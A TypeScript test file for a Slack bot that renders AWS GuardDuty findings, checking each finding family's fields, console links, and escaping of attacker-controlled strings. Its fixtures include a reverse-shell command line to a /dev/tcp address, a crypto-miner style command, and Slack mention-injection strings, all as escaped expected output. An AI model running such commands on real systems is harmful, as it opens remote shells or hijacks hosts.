/**
 * Issue 12: every finding family renders completely. One wire-form fixture per family (EKS/Kubernetes, Runtime
 * Monitoring on ECS, Malware Protection for EC2 and S3, RDS, Lambda), each mapped, then rendered as card, list row,
 * `finding <id>` answer and digest line, and checked for the family's fields, its console link, escaping of the
 * attacker-controlled strings and Block Kit's limits. A property test strips or garbles any part of each fixture.
 */
import type { Finding as SdkFinding } from '@aws-sdk/client-guardduty';
import type { KnownBlock } from '@slack/types';
import fc from 'fast-check';
import pino from 'pino';
import { toFinding } from '../../src/aws/finding-mapper';
import type { FindingsFilter } from '../../src/domain/command';
import { familyResourceName, resourceName, type FamilyDetails, type Finding } from '../../src/domain/finding';
import type { StateStore } from '../../src/domain/ports';
import type { ChannelDeps, SlackDeps } from '../../src/slack/deps';
import { digestBlocks, digestLine, digestListMessage, type DigestRow } from '../../src/slack/blocks/digest';
import { familyBlocks } from '../../src/slack/blocks/family-section';
import { findingCard, findingCardText } from '../../src/slack/blocks/finding-card';
import { findingsList } from '../../src/slack/blocks/findings-list';
import { findingAnswer } from '../../src/slack/finding-answer';
import { ACTION } from '../../src/slack/ids';
import { assertNoUnescaped, assertValidMessage, collectTexts } from '../../support/helpers/block-kit';
import { loadFixture } from '../../support/helpers/fixtures';

const FORBIDDEN = /undefined|null|NaN|Invalid Date|\[object Object\]/;
const CHANNEL_PING = /<!(channel|here|everyone)>|<@[UW]/;

interface Family {
  fixture: string;
  /** The headings of the card's family sections. */
  headings: string[];
  /** A subset of the mapped details. */
  details: FamilyDetails;
  /** Field label → text the field must contain in one of the family sections (already escaped as the card shows it). */
  fields: Record<string, string>;
  /** The first family section's console button: its text and URL. */
  link: [label: string, url: RegExp];
  /** The escaped name of the family's resource on the list row and the card's Resource field. */
  resource: string;
  /** The start of the digest line's resource (escaped plain text). */
  digest: string;
  /** Attacker strings of the fixture, as escaped on the card. */
  escaped: string[];
}

const FAMILIES: Family[] = [
  {
    fixture: 'execution-kubernetes-exec-in-kube-system-pod',
    headings: ['Kubernetes'],
    details: {
      kubernetes: {
        cluster: { name: 'prod-eks-01', status: 'ACTIVE', vpcId: 'vpc-0aa11bb22cc33dd44' },
        user: expect.objectContaining({ groups: ['system:masters', 'system:authenticated', '<@U0EVIL>'], sessionNames: ['alice-`sess`'] }),
        workload: expect.objectContaining({
          name: 'aws-node-x7k2p',
          type: 'pods',
          namespace: 'kube-system',
          serviceAccount: 'aws-node',
          hostNetwork: true,
          containers: [expect.objectContaining({ name: 'aws-node', privileged: true })],
        }),
        apiCall: expect.objectContaining({
          verb: 'create',
          resource: 'pods',
          subresource: 'exec',
          statusCode: 101,
          sourceIps: ['198.51.100.5'],
        }),
      },
    },
    fields: {
      'EKS cluster': '`prod-eks-01` · ACTIVE',
      Groups: '`system:masters`, `system:authenticated`, `&lt;@U0EVIL&gt;`',
      Workload: 'pod `kube-system/aws-node-x7k2p` · service account `aws-node` · :warning: hostNetwork',
      Namespace: '`kube-system`',
      'API call': '*create* pods/exec `kube-system/aws-node-x7k2p` · status 101',
      Containers: ':warning: privileged',
    },
    link: [
      'Open cluster in EKS console',
      /^https:\/\/us-west-2\.console\.aws\.amazon\.com\/eks\/home\?region=us-west-2#\/clusters\/prod-eks-01$/,
    ],
    resource: 'EKS cluster `prod-eks-01` (pod kube-system/aws-node-x7k2p)',
    digest: 'EKS cluster prod-eks-01 (pod kube-system/aws-node-x7k2p)',
    escaped: ["`arn:aws:sts::123456789012:assumed-role/&lt;!channel&gt;*EKS-Admin*_~'break'~&amp;/alice@example.com-xxx"],
  },
  {
    fixture: 'execution-runtime-reverseshell',
    headings: ['ECS', 'Runtime'],
    details: {
      ecs: expect.objectContaining({
        clusterName: 'payments-cluster',
        runningTasks: 12,
        task: expect.objectContaining({ launchType: 'FARGATE', version: '42', startedAt: '2026-11-21T09:30:41.000Z' }),
      }),
      container: expect.objectContaining({ name: 'payments-api', runtime: 'containerd', privileged: false }),
      runtime: expect.objectContaining({
        process: expect.objectContaining({
          name: 'bash',
          executablePath: '/usr/bin/bash',
          pid: 2301,
          user: 'root',
          userId: 0,
          lineage: [
            { name: 'python3', executablePath: '/usr/local/bin/python3.11', pid: 1123 },
            { name: 'gunicorn', executablePath: '/usr/local/bin/gunicorn', pid: 1001 },
            { name: 'tini', executablePath: '/sbin/tini', pid: 1 },
          ],
        }),
        context: [
          { key: 'addressFamily', value: 'AF_INET' },
          { key: 'ianaProtocolNumber', value: '6' },
        ],
      }),
    },
    fields: {
      Process: '`bash`',
      Executable: '`/usr/bin/bash`',
      'SHA-256': '`d8ed4f7bd2a5d2c9d3e1f4b6a8c0e2f4a6b8c0d2e4f6a8b0c2d4e6f8a0b2c4d6`',
      User: '`root`, uid 0, pid 2301',
      'Parent lineage': '`python3` ← `gunicorn` ← `tini`',
      Task: '`0f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c`',
      'Task definition': '`payments-api:42`',
      'ECS cluster': '`payments-cluster` · ACTIVE · 12 running tasks, 4 services',
    },
    link: [
      'Open task in ECS console',
      /^https:\/\/eu-central-1\.console\.aws\.amazon\.com\/ecs\/v2\/clusters\/payments-cluster\/tasks\/0f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c\?region=eu-central-1$/,
    ],
    resource: 'ECS cluster `payments-cluster` (task 0f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c)',
    digest: 'ECS cluster payments-cluster (task 0f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c)',
    escaped: [
      "`bash -c 'bash -i &gt;&amp; /dev/tcp/203.0.113.77/4444 0&gt;&amp;1' # '&lt;!channel&gt;' *pwned* _it_ ~gone~ @channel &amp; ; echo QWxh",
    ],
  },
  {
    fixture: 'execution-runtime-newbinaryexecuted-eks',
    headings: ['Kubernetes', 'Runtime'],
    details: {
      kubernetes: expect.objectContaining({
        cluster: expect.objectContaining({ name: 'prod-eks-01' }),
        workload: expect.objectContaining({ namespace: 'web', hostPid: true, hostPaths: ['/'] }),
      }),
      container: expect.objectContaining({ name: 'web-frontend', image: 'ghcr.io/example/web-frontend:2.4.1' }),
      runtime: expect.objectContaining({
        process: expect.objectContaining({ name: 'kworkerds', user: 'www-data', userId: 33, pid: 48213 }),
        context: [
          { key: 'modifyingProcess', value: 'curl (/usr/bin/curl, pid 48190)' },
          { key: 'modifiedAt', value: '2026-11-26T11:59:47.000Z' },
        ],
        instanceConsoleUrl:
          'https://us-west-2.console.aws.amazon.com/ec2/home?region=us-west-2#InstanceDetails:instanceId=i-0eks00node0000001',
      }),
    },
    fields: {
      Workload: 'pod `web/web-frontend-6d4cf56db6-8x2kq` · service account `default` · :warning: hostPID',
      'Host paths': '`/`',
      // The pod lists the container: it is shown there once, not again in the runtime section.
      Containers: 'web-frontend `ghcr.io/example/web-frontend:2.4.1`',
      Process: '`kworkerds`',
      Executable: "`/tmp/.cache/&lt;!channel&gt;'kworkerds'&amp;`",
      User: '`www-data`, uid 33, pid 48213',
      'Parent lineage': '`sh` ← `node` ← `containerd-shim-runc-v2`',
      'Command line': '&amp;&amp; /tmp/.cache/kworkerds -o pool.example:3333 *_~&lt;!here&gt;"`',
    },
    link: [
      'Open cluster in EKS console',
      /^https:\/\/us-west-2\.console\.aws\.amazon\.com\/eks\/home\?region=us-west-2#\/clusters\/prod-eks-01$/,
    ],
    resource: 'Instance i-0eks00node0000001 (prod-eks-01-ng-a) · EKS cluster `prod-eks-01` (pod web/web-frontend-6d4cf56db6-8x2kq)',
    digest: 'Instance i-0eks00node0000001 (prod-eks-01-ng-a) · EKS cluster prod-eks-01 (pod web/web-frontend-6d4cf56db6-8x2kq)',
    escaped: ['• Modified by: `curl (/usr/bin/curl, pid 48190)`\n• Modified at: 2026-11-26 11:59 UTC'],
  },
  {
    fixture: 'execution-ec2-maliciousfile',
    headings: ['Malware scan (EC2)'],
    details: {
      ebsScan: expect.objectContaining({
        scanType: 'GUARDDUTY_INITIATED',
        scannedFiles: 181264,
        scannedGb: 32,
        infectedFiles: 3,
        uniqueThreats: 2,
        highest: { name: 'Trojan.Linux.Mirai', severity: 'HIGH', count: 2 },
        sources: ['Bitdefender', 'Amazon'],
        threats: [
          expect.objectContaining({
            name: 'Trojan.Linux.Mirai',
            severity: 'HIGH',
            count: 2,
            files: [expect.anything(), expect.anything()],
          }),
          expect.objectContaining({
            name: 'EICAR-Test-File (not a virus)',
            files: [expect.objectContaining({ path: '/home/ec2-user/eicar.com' })],
          }),
        ],
      }),
    },
    fields: {
      'Scan result': '3 infected files, 2 distinct threats',
      'Highest severity': '`Trojan.Linux.Mirai`, HIGH, 2 files',
      Scanned: '181,264 files, 32 GB, 1 volume',
      'Triggered by': 'finding `ffff0000111122223333444455556666`',
    },
    link: [
      'Open instance in EC2 console',
      /^https:\/\/us-east-1\.console\.aws\.amazon\.com\/ec2\/home\?region=us-east-1#InstanceDetails:instanceId=i-0bb22cc33dd44ee55$/,
    ],
    resource: 'Instance i-0bb22cc33dd44ee55 (ci-runner-3) · Malware scan 3 infected files',
    digest: 'Instance i-0bb22cc33dd44ee55 (ci-runner-3) · Malware scan 3 infected files',
    escaped: [
      "`/tmp/.X11-unix/&lt;!channel&gt;*kworker*_~'x'~&amp;.bin` SHA-256 `5f4dcc3b5aa765d61d8327deb882cf995f4dcc3b5aa765d61d8327deb882cf99`",
      '`/home/ec2-user/eicar.com` SHA-256 `275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f`',
    ],
  },
  {
    fixture: 'object-s3-maliciousfile',
    headings: ['Malware scan (S3 object)'],
    details: {
      s3Objects: [
        expect.objectContaining({
          bucket: 'customer-uploads-prod',
          versionId: '3HL4kqtJlcpXroDTDmJ+rmSpXd3dIbrHY+MTRCxf3vjVBH40Nr8X8gdRQBpUMLUo',
          hash: '275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f',
        }),
      ],
      malwareScan: expect.objectContaining({
        scanType: 'GUARDDUTY_INITIATED',
        scanCategory: 'FULL_SCAN',
        uniqueThreats: 2,
        threats: [
          expect.objectContaining({
            name: 'EICAR-Test-File (not a virus)',
            files: [expect.objectContaining({ path: 'invoice-8841.zip/docs/<b>readme</b> & `run`.com' })],
          }),
          expect.objectContaining({ name: 'Trojan.GenericKD.<!here>' }),
        ],
      }),
    },
    fields: {
      'Scan result': ':biohazard_sign: Threats found (2 threats)',
      'Threat names': '`EICAR-Test-File (not a virus)`, `Trojan.GenericKD.&lt;!here&gt;`',
      Bucket: '`customer-uploads-prod`',
      Version: '`3HL4kqtJlcpXroDTDmJ+rmSpXd3dIbrHY+MTRCxf3vjVBH40Nr8X8gdRQBpUMLUo`',
      'Object key': "`incoming/2026/11/&lt;!channel&gt; *invoice*_~'payload'~&amp;/nested-folder/",
    },
    link: [
      'Open object in S3 console',
      /^https:\/\/eu-west-1\.console\.aws\.amazon\.com\/s3\/object\/customer-uploads-prod\?region=eu-west-1&bucketType=general&prefix=incoming%2F2026%2F11%2F%3C!channel%3E%20\*invoice\*_~%60payload%60~%26%2F(nested-folder%2F){30}invoice-8841\.pdf\.exe&versionId=3HL4kqtJlcpXroDTDmJ%2BrmSpXd3dIbrHY%2BMTRCxf3vjVBH40Nr8X8gdRQBpUMLUo$/,
    ],
    resource: "S3 object `customer-uploads-prod/incoming/2026/11/&lt;!channel&gt; *invoice*_~'payload'~&amp;/nested-folder/",
    digest: 'S3 object customer-uploads-prod/incoming/2026/11/&lt;!channel&gt; *invoice*_~`payload`~&amp;/nested-folder/',
    escaped: ["`invoice-8841.zip/docs/&lt;b&gt;readme&lt;/b&gt; &amp; 'run'.com`"],
  },
  {
    fixture: 'credentialaccess-rds-anomalousbehavior-successfullogin',
    headings: ['RDS'],
    details: {
      rds: expect.objectContaining({
        instanceId: 'orders-db-1',
        clusterId: 'orders-cluster',
        engine: 'aurora-postgresql',
        engineVersion: '15.4',
        database: 'orders',
        authMethod: 'PASSWORD',
        ssl: 'NONE',
        logins: [expect.objectContaining({ failed: 14, successful: 1 })],
      }),
    },
    fields: {
      'DB instance': '`orders-db-1`',
      'DB cluster': '`orders-cluster`',
      Engine: 'aurora-postgresql 15.4',
      Database: '`orders`',
      Application: '`psql &lt;@channel&gt;`',
      Authentication: 'PASSWORD, SSL NONE',
      'Login attempts': ': 14 failed, 1 successful',
    },
    link: [
      'Open database in RDS console',
      /^https:\/\/us-east-2\.console\.aws\.amazon\.com\/rds\/home\?region=us-east-2#database:id=orders-db-1;is-cluster=false$/,
    ],
    resource: 'RDS aurora-postgresql instance `orders-db-1` (orders-cluster)',
    digest: 'RDS aurora-postgresql instance orders-db-1 (orders-cluster)',
    escaped: ["`report_&lt;!channel&gt;_'svc'*admin*~x~&amp;uuu"],
  },
  {
    fixture: 'backdoor-lambda-c2activity',
    headings: ['Lambda'],
    details: {
      lambda: expect.objectContaining({
        name: 'image-resizer',
        version: '$LATEST',
        vpcId: 'vpc-0fedcba9876543210',
        subnetIds: ['subnet-0aa1bb2cc3dd4ee5f', 'subnet-0ff1ee2dd3cc4bb5a'],
        securityGroups: [{ id: 'sg-0a9b8c7d6e5f40312', name: 'lambda-egress' }],
        lastModified: '2026-11-24T17:45:00.000Z',
      }),
    },
    fields: {
      Function: '`image-resizer`',
      Version: '`$LATEST`',
      Role: '`arn:aws:iam::123456789012:role/service-role/image-resizer-role-&lt;x&gt;`',
      'Network connection': 'OUTBOUND TCP 198.51.100.66:443',
      VPC: 'VPC `vpc-0fedcba9876543210` · `sg-0a9b8c7d6e5f40312` · 2 subnets',
      'Last modified': '2026-11-24 17:45 UTC',
    },
    link: [
      'Open function in Lambda console',
      /^https:\/\/ap-southeast-2\.console\.aws\.amazon\.com\/lambda\/home\?region=ap-southeast-2#\/functions\/image-resizer$/,
    ],
    resource: 'Lambda function `image-resizer:$LATEST`',
    digest: 'Lambda function image-resizer:$LATEST',
    escaped: ['Resizes &lt;uploads&gt; &amp; thumbnails *fast* `&lt;!channel&gt;`'],
  },
];

const FILTER: FindingsFilter = { band: 'low', types: [], archived: false };

function mapped(name: string): Finding {
  return toFinding(loadFixture(name));
}

function texts(blocks: unknown): string[] {
  return collectTexts(blocks).map((t) => t.text);
}

/** The text of the field labelled `label` in the family's section (or anywhere when no section is given). */
function fieldIn(block: KnownBlock | undefined, label: string): string | undefined {
  if (!block || block.type !== 'section') return undefined;
  return block.fields?.find((f) => f.text.startsWith(`*${label}*\n`))?.text.slice(label.length + 3);
}

function sectionHeaded(blocks: KnownBlock[], heading: string): KnownBlock | undefined {
  return blocks.find((b) => b.type === 'section' && b.text?.text.startsWith(`*${heading}*`));
}

/** Forbidden strings, empty labels or values, blank sections: what no card may show. */
function problems(blocks: KnownBlock[], extra: string[] = []): string[] {
  const found: string[] = [];
  const all = [...collectTexts(blocks), ...extra.map((text) => ({ path: 'extra', type: 'mrkdwn', text }))];
  for (const t of all) {
    if (FORBIDDEN.test(t.text)) found.push(`${t.path}: ${JSON.stringify(t.text.slice(0, 200))}`);
    // plain_text (the header, buttons) is never parsed for mentions; mrkdwn is.
    if (t.type === 'mrkdwn' && CHANNEL_PING.test(t.text))
      found.push(`${t.path}: a live mention in ${JSON.stringify(t.text.slice(0, 200))}`);
  }
  for (const block of blocks) {
    if (block.type !== 'section') continue;
    if (block.text && block.text.text.trim() === '') found.push('a section with empty text');
    if (!block.text && (block.fields ?? []).length === 0) found.push('an empty section');
    for (const f of block.fields ?? []) {
      const match = /^\*([^*\n]*)\*\n([\s\S]*)$/.exec(f.text);
      if (!match || (match[1] ?? '').trim() === '' || (match[2] ?? '').trim() === '') found.push(`field ${JSON.stringify(f.text)}`);
    }
  }
  return found;
}

function digestRow(f: Finding): DigestRow {
  return {
    findingId: f.id,
    region: f.region,
    accountId: f.accountId,
    severity: f.severity,
    type: f.type,
    title: f.title,
    resource: resourceName(f),
  };
}

function deps(channel?: Partial<ChannelDeps>): SlackDeps {
  return { logger: pino({ level: 'silent' }), channel } as unknown as SlackDeps;
}

describe.each(FAMILIES)('$fixture', (family) => {
  const f = mapped(family.fixture);
  const card = findingCard(f, { actions: ['propose', 'archive', 'feedback'] });
  const sections = family.headings.map((h) => sectionHeaded(card, h));

  it('maps the family details from the wire form', () => {
    expect(f.details).toMatchObject(family.details);
  });

  it('keeps the responder attributes: type, severity, account, region, resource, description', () => {
    const all = texts(card);
    for (const label of ['Type', 'Severity', 'Account', 'Region', 'Resource', 'Actor', 'First seen', 'Last seen']) {
      expect(all.some((t) => t.startsWith(`*${label}*\n`))).toBe(true);
    }
    expect(all).toContain(f.description.replace(/&/g, '&amp;'));
  });

  it('has a valid, escaped card with the family section and its console link', () => {
    assertValidMessage(card);
    assertNoUnescaped(card);
    expect(problems(card, [findingCardText(f)])).toEqual([]);
    for (const section of sections) expect(section).toBeDefined();
    expect(familyBlocks(f)).toEqual(sections);
    const accessory = sections[0]?.type === 'section' ? sections[0].accessory : undefined;
    expect(accessory).toMatchObject({
      type: 'button',
      action_id: ACTION.openConsole,
      text: { type: 'plain_text', text: family.link[0] },
      value: `${f.region} ${f.id}`,
    });
    expect(accessory?.type === 'button' && accessory.url).toMatch(family.link[1]);
    for (const [label, text] of Object.entries(family.fields)) {
      const shown = sections.map((section) => fieldIn(section, label)).filter((t) => t !== undefined);
      expect(shown).toHaveLength(1);
      expect(shown[0]).toContain(text);
    }
  });

  it('escapes and shortens the attacker-controlled strings', () => {
    const all = texts(card).join('\n');
    for (const s of family.escaped) expect(all).toContain(s);
    expect(all).not.toMatch(/<!channel>|<!here>|<@U0EVIL>|<@channel>/);
    // Every code span is closed on its line and holds no backtick of the finding's own.
    for (const line of all.split('\n')) expect((line.match(/`/g) ?? []).length % 2).toBe(0);
  });

  it('names the family resource on the card, the list row and the digest line', () => {
    const resourceField = texts(card).find((t) => t.startsWith('*Resource*\n')) ?? '';
    expect(resourceField).toContain(family.resource);

    const list = findingsList(FILTER, { findings: [f], page: 0, hasMore: false, failures: [] });
    assertValidMessage(list);
    assertNoUnescaped(list);
    expect(problems(list)).toEqual([]);
    expect(texts(list)[1]).toContain(family.resource);

    const row = digestRow(f);
    expect(row.resource).toBeDefined();
    const line = digestLine(row);
    expect(problems([], [line])).toEqual([]);
    expect(line).toContain(` · ${family.digest}`);
    const digest = digestBlocks('d1', [row], 60);
    assertValidMessage(digest);
    assertNoUnescaped(digest);
    const listed = digestListMessage([row]).blocks;
    assertValidMessage(listed);
    assertNoUnescaped(listed);
    expect(texts(listed).join('\n')).toContain(` · ${family.digest}`);
  });

  it('answers `finding <id>` with the family section, with and without the state store', async () => {
    const bare = await findingAnswer(deps(), f);
    assertValidMessage(bare);
    assertNoUnescaped(bare);
    expect(problems(bare)).toEqual([]);
    expect(family.headings.map((h) => sectionHeaded(bare, h))).toEqual(sections);

    const store = { getFindingRecord: async () => ({ card: undefined, proposals: [] }) } as unknown as StateStore;
    const withStore = await findingAnswer(deps({ store }), f);
    assertValidMessage(withStore);
    expect(family.headings.map((h) => sectionHeaded(withStore, h))).toEqual(sections);

    const broken = { getFindingRecord: async () => Promise.reject(new Error('<!channel> down')) } as unknown as StateStore;
    const degraded = await findingAnswer(deps({ store: broken }), f);
    assertValidMessage(degraded);
    assertNoUnescaped(degraded);
    expect(family.headings.map((h) => sectionHeaded(degraded, h))).toEqual(sections);
  });
});

describe('family specifics', () => {
  it('the reverse shell: the long command line is cut within its field, the context is listed', () => {
    const f = mapped('execution-runtime-reverseshell');
    expect(f.details?.runtime?.commandLine?.length).toBeGreaterThan(2000);
    const section = sectionHeaded(findingCard(f), 'Runtime');
    const command = fieldIn(section, 'Command line') ?? '';
    expect(command.length).toBeLessThanOrEqual(600);
    expect(command).toMatch(/^`bash -c .*…`$/);
    expect(section?.type === 'section' && section.text?.text).toContain('*Context*\n• Address family: `AF_INET`\n• IANA protocol: `6`');
    // The ECS task's container is shown once (in the ECS section), not again in the runtime section.
    expect(fieldIn(section, 'Container')).toBeUndefined();
  });

  it('the Kubernetes user name is cut', () => {
    const user =
      fieldIn(sectionHeaded(findingCard(mapped('execution-kubernetes-exec-in-kube-system-pod')), 'Kubernetes'), 'Kubernetes user') ?? '';
    expect(user.length).toBeLessThanOrEqual(160);
    expect(user.endsWith('…`')).toBe(true);
  });

  it('a modified binary (Runtime on EC2): the modifying process and time are in the context', () => {
    const raw = loadFixture('execution-runtime-reverseshell');
    raw.Type = 'Execution:Runtime/NewBinaryExecuted';
    raw.Resource = { ResourceType: 'Instance', InstanceDetails: { InstanceId: 'i-0abc1234def567890' } };
    raw.Service = {
      ...raw.Service,
      Action: undefined,
      RuntimeDetails: {
        Process: { Name: 'kworkerds', ExecutablePath: '/tmp/kworkerds' },
        Context: {
          ModifyingProcess: { Name: 'curl', ExecutablePath: '/usr/bin/curl', Pid: 880 },
          ModifiedAt: new Date('2026-11-21T14:00:00.000Z'),
        },
      },
    };
    const f = toFinding(raw);
    expect(f.resource.kind).toBe('instance');
    expect(f.details?.runtime?.context).toEqual([
      { key: 'modifyingProcess', value: 'curl (/usr/bin/curl, pid 880)' },
      { key: 'modifiedAt', value: '2026-11-21T14:00:00.000Z' },
    ]);
    const card = findingCard(f);
    expect(problems(card)).toEqual([]);
    const runtime = sectionHeaded(card, 'Runtime');
    expect(runtime?.type === 'section' && runtime.text?.text).toContain(
      '• Modified by: `curl (/usr/bin/curl, pid 880)`\n• Modified at: 2026-11-21 14:00 UTC',
    );
    expect(texts(card).find((t) => t.startsWith('*Resource*\n'))).toContain('Instance i-0abc1234def567890 · Process `kworkerds`');
    // The process ran on an EC2 instance: the section's button opens it.
    expect(runtime?.type === 'section' && runtime.accessory).toMatchObject({
      text: { text: 'Open instance in EC2 console' },
      url: 'https://eu-central-1.console.aws.amazon.com/ec2/home?region=eu-central-1#InstanceDetails:instanceId=i-0abc1234def567890',
    });
  });

  it('Kubernetes RBAC findings: the permission checked, the role binding and the role', () => {
    const raw = loadFixture('execution-kubernetes-exec-in-kube-system-pod');
    raw.Type = 'PrivilegeEscalation:Kubernetes/PrivilegedContainer';
    raw.Service = {
      ...raw.Service,
      Action: {
        ...raw.Service?.Action,
        KubernetesPermissionCheckedDetails: { Verb: 'create', Resource: 'clusterrolebindings', Namespace: 'kube-system', Allowed: false },
        KubernetesRoleBindingDetails: {
          Kind: 'ClusterRoleBinding',
          Name: 'pwn-<!channel>',
          RoleRefKind: 'ClusterRole',
          RoleRefName: 'cluster-admin',
        },
        KubernetesRoleDetails: { Kind: 'ClusterRole', Name: 'cluster-admin' },
      },
    };
    const section = sectionHeaded(findingCard(toFinding(raw)), 'Kubernetes');
    expect(fieldIn(section, 'Permission checked')).toBe('*create* clusterrolebindings in `kube-system` · denied');
    expect(fieldIn(section, 'Role binding')).toBe('ClusterRoleBinding `pwn-&lt;!channel&gt;` → ClusterRole `cluster-admin`');
    expect(fieldIn(section, 'Role')).toBe('ClusterRole `cluster-admin`');
    assertValidMessage(findingCard(toFinding(raw)));
  });

  it('a container the task or pod does not list is shown in the runtime section, once', () => {
    const raw = loadFixture('execution-runtime-newbinaryexecuted-eks');
    const workload = raw.Resource?.KubernetesDetails?.KubernetesWorkloadDetails;
    if (workload) workload.Containers = [];
    const card = findingCard(toFinding(raw));
    expect(fieldIn(sectionHeaded(card, 'Runtime'), 'Container')).toBe('web-frontend `ghcr.io/example/web-frontend:2.4.1`');
    expect(fieldIn(sectionHeaded(card, 'Kubernetes'), 'Containers')).toBeUndefined();
    expect(texts(card).filter((t) => t.includes('ghcr.io/example/web-frontend'))).toHaveLength(1);
  });

  it('an EKS runtime finding on a node keeps the instance and names the cluster', () => {
    const raw = loadFixture('execution-kubernetes-exec-in-kube-system-pod');
    raw.Resource = { ...raw.Resource, InstanceDetails: { InstanceId: 'i-0node000000000001' } };
    const f = toFinding(raw);
    expect(f.resource.kind).toBe('instance');
    expect(texts(findingCard(f)).find((t) => t.startsWith('*Resource*\n'))).toContain(
      'Instance i-0node000000000001 · EKS cluster `prod-eks-01` (pod kube-system/aws-node-x7k2p)',
    );
  });

  it('a region that is not a region name gets no family console link (the GuardDuty button stays)', () => {
    const raw = loadFixture('backdoor-lambda-c2activity');
    raw.Region = 'not a region';
    const f = toFinding(raw);
    expect(f.details?.lambda?.consoleUrl).toBeUndefined();
    const card = findingCard(f);
    const lambda = sectionHeaded(card, 'Lambda');
    expect(lambda).toBeDefined();
    expect(lambda?.type === 'section' && lambda.accessory).toBeFalsy();
    expect(card.some((b) => b.type === 'actions')).toBe(true);
  });

  it('findings without family details get no family section (EC2, IAM and S3 API cards are unchanged)', () => {
    for (const name of [
      'recon-ec2-portprobe-ssh-rdp',
      'unauthorizedaccess-iamuser-credential-exfiltration',
      'policy-s3-bucketblockpublicaccessdisabled',
    ]) {
      const f = mapped(name);
      expect(f.details).toBeUndefined();
      expect(familyBlocks(f)).toEqual([]);
      expect(familyResourceName(f.details)).toBeUndefined();
    }
  });

  it('an unknown family still shows type, severity, account, region, resource type and description', () => {
    const f = toFinding({
      Id: '0123456789abcdef0123456789abcdef',
      AccountId: '123456789012',
      Region: 'us-east-1',
      Partition: 'aws',
      Type: 'Impact:Bedrock/SomethingNew',
      Severity: 5,
      Title: 'A new kind of finding',
      Description: 'Something <new> & unexpected.',
      UpdatedAt: '2026-11-01T00:00:00.000Z',
      Resource: { ResourceType: 'BedrockGuardrail', BedrockGuardrailDetails: {} },
    } as unknown as SdkFinding);
    const card = findingCard(f);
    assertValidMessage(card);
    assertNoUnescaped(card);
    expect(problems(card)).toEqual([]);
    const all = texts(card);
    expect(all).toEqual(
      expect.arrayContaining([
        '*Type*\nImpact:Bedrock/SomethingNew',
        '*Severity*\n:large_yellow_circle: Medium (5.0)',
        '*Account*\n123456789012',
        '*Region*\nus-east-1',
        '*Resource*\nBedrockGuardrail',
        'Something &lt;new&gt; &amp; unexpected.',
      ]),
    );
  });
});

// ---------------------------------------------------------------- property: any optional part missing or odd

type Json = Record<string, unknown>;

/** Every path to a value in the fixture (parents before children), list elements included. */
function paths(value: unknown, prefix: (string | number)[] = []): (string | number)[][] {
  if (!value || typeof value !== 'object') return [];
  const entries: [string | number, unknown][] = Array.isArray(value) ? value.map((v, i) => [i, v]) : Object.entries(value);
  return entries.flatMap(([key, child]) => [[...prefix, key], ...paths(child, [...prefix, key])]);
}

const ODD_VALUES: unknown[] = [
  null,
  42,
  -1,
  1.5,
  Number.NaN,
  '',
  ' ',
  'x',
  true,
  {},
  [],
  [null],
  { Value: 1 },
  '<!channel>',
  'x'.repeat(5000),
];

type Change = { path: (string | number)[]; how: 'delete' | 'odd'; odd: number };

function apply(target: Json, change: Change): void {
  let node: unknown = target;
  for (const key of change.path.slice(0, -1)) {
    if (!node || typeof node !== 'object') return;
    node = (node as Record<string | number, unknown>)[key];
  }
  if (!node || typeof node !== 'object') return;
  const last = change.path[change.path.length - 1] as string | number;
  if (change.how === 'delete') {
    if (Array.isArray(node) && typeof last === 'number') node.splice(last, 1);
    else delete (node as Record<string | number, unknown>)[last];
  } else (node as Record<string | number, unknown>)[last] = ODD_VALUES[change.odd % ODD_VALUES.length];
}

const RUNS = 150;

describe.each(FAMILIES.map((f) => f.fixture))('property: %s with any part missing, null or of another type', (name) => {
  const all = paths(loadFixture(name));
  const changes = fc.array(
    fc.record({
      path: fc.constantFrom(...all),
      how: fc.constantFrom('delete' as const, 'odd' as const),
      odd: fc.nat({ max: ODD_VALUES.length - 1 }),
    }),
    { minLength: 1, maxLength: 25 },
  );

  it(`never throws and never shows a forbidden string, an empty label or an empty section (${RUNS} runs)`, () => {
    fc.assert(
      fc.property(changes, (applied) => {
        const raw = loadFixture(name) as unknown as Json;
        for (const change of applied) apply(raw, change);
        const f = toFinding(raw as unknown as SdkFinding);
        const card = findingCard(f, { actions: ['propose', 'archive', 'feedback'] });
        assertValidMessage(card);
        assertNoUnescaped(card);
        const list = findingsList(FILTER, { findings: [f], page: 0, hasMore: false, failures: [] });
        assertValidMessage(list);
        assertNoUnescaped(list);
        const line = digestLine(digestRow(f));
        const found = problems(card, [findingCardText(f), line, ...texts(list)]);
        expect(found).toEqual([]);
        for (const label of ['Type', 'Severity', 'Account', 'Region', 'Resource']) {
          expect(texts(card).some((t) => t.startsWith(`*${label}*\n`))).toBe(true);
        }
      }),
      { numRuns: RUNS },
    );
  });
});
